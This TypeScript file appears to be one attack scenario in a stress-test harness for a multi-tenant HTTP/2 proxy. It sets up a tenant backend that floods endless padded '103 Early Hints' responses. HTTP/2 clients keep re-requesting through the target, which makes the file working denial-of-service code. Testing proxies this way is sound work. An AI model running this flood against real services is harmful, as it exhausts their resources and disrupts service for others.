// A tenant's service that answers with 103 without end, to visitors of HTTP/2 who read them, or stop to, or leave.

import { once } from 'node:events';
import type { Attack, Counts } from '../attack.ts';
import { pause, serveByTenant, visitor } from '../http2-attackers.ts';

const HINT = `HTTP/1.1 103 Early Hints\r\nLink: </x>; rel=preload; a="${'x'.repeat(2000)}"\r\n\r\n`;
const HINTS = Buffer.from(HINT.repeat(32));
const VISITORS = 4;
const EACH_MS = 5000;

export const attack: Attack = {
  name: 'E21 interim answers without end',
  async run(target, signal) {
    const counts: Counts = { floods: 0, hints: 0, refused: 0 };
    const service = await serveByTenant(target, 'interims', async (socket) => {
      counts.floods = (counts.floods ?? 0) + 1;
      while (!socket.destroyed && !signal.aborted) {
        if (!socket.write(HINTS)) await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => {});
        await new Promise(setImmediate);
      }
    });
    while (!signal.aborted) {
      const sockets = await Promise.all(
        Array.from({ length: VISITORS }, async (_, i) => {
          try {
            const { session, socket } = await visitor(target, service.host, 65_535);
            const ask = () => {
              const stream = session.request({ ':path': '/' }).on('error', () => {});
              if (i % 2) stream.on('headers', () => (counts.hints = (counts.hints ?? 0) + 1));
              // What is cut off is asked for again at once.
              stream.resume().once('close', () => session.closed || session.destroyed || ask());
            };
            ask();
            return socket;
          } catch {
            counts.refused = (counts.refused ?? 0) + 1;
            return undefined;
          }
        }),
      );
      await pause(EACH_MS, signal);
      for (const socket of sockets) socket?.destroy();
    }
    await service.close();
    return counts;
  },
};
